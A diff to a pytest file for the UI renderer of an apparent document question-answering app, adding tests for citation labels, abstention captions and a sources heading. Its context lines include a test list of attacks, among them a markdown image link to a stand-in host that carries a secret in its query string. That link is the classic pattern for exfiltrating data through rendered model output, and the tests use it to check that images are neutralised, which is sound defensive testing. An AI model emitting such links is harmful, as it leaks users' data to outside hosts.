@@ -6,7 +6,7 @@ from __future__ import annotations
 import pytest
 from markdown_it import MarkdownIt
 
-from ui.render import neutralise_images, safe_pieces, snippet, source_label, timing_caption
+from ui.render import neutralise_images, safe_pieces, snippet, source_label, sources_heading, timing_caption
 
 ATTACKS = [
     "![x](https://evil.example/pixel.png?q=secret)",
@@ -63,6 +63,7 @@ def test_source_label_and_snippet():
         "score": 0.61234,
     }
     assert source_label(source) == "[2] Returns — returns.pdf, page 3 (score 0.61)"
+    assert source_label(source | {"cited": True}) == "[2] Returns — returns.pdf, page 3 (score 0.61) · cited"
     assert source_label({"title": "![t](https://x/y.png)", "source": "a.md", "score": 0.5}).startswith(
         "!\\[t]"
     )
@@ -83,4 +84,16 @@ def test_timing_caption():
     assert timing_caption(answer) == (
         "2.5 s total · first token 0.4 s · 14.2 tokens/s · 120 prompt + 30 answer tokens · adapter demo"
     )
-    assert "abstained" in timing_caption({"abstained": True, "timings": {"total_ms": 10.0}})
+    assert "abstained (no relevant document)" in timing_caption(
+        {"abstained": True, "timings": {"total_ms": 10.0}}
+    )
+    declined = timing_caption(answer | {"abstained": True})
+    assert "abstained (the model declined)" in declined and "30 answer tokens" in declined
+
+
+def test_sources_heading_counts_citations_and_names_nearest_documents():
+    sources = [{"number": 1, "cited": True}, {"number": 2, "cited": False}, {"number": 3}]
+    assert sources_heading(sources, abstained=False) == "Sources (3 · 1 cited)"
+    assert sources_heading(sources, abstained=True) == (
+        "Sources (3 · nearest documents, none answered the question)"
+    )
